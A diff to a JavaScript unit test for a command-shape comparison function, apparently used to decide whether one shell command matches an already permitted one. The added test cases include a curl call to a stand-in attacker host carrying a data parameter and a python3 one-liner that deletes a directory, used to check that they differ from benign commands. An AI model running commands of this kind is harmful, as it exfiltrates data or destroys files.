@@ -23,6 +23,16 @@ describe('command shape', () => {
     expect(await sameShape('cat a.txt | grep x', 'cat b.txt | grep y')).toBe(true);
   });
 
+  it('includes the hosts a network command reaches and the script an interpreter runs', async () => {
+    expect(await shape('curl https://api.github.com/repos')).toBe('curl @ api.github.com');
+    expect(await sameShape('curl https://api.github.com/a', 'curl https://api.github.com/b')).toBe(true);
+    expect(await sameShape('curl https://api.github.com/a', 'curl "https://evil.example/?d=1"')).toBe(false);
+    expect(await sameShape('ssh build-box uptime', 'ssh prod-db uptime')).toBe(false);
+    expect(await sameShape('python3 a.py', 'python3 b.py')).toBe(false);
+    expect(await sameShape('node scripts/build.js', 'node scripts/build.js')).toBe(true);
+    expect(await sameShape('python3 -c "print(1)"', 'python3 -c "import shutil; shutil.rmtree(\'x\')"')).toBe(false);
+  });
+
   it('differs when the flags differ', async () => {
     expect(await sameShape('ls -la /tmp', 'ls -R /tmp')).toBe(false);
     expect(await sameShape('ls -la /tmp', 'ls -laR /tmp')).toBe(false);
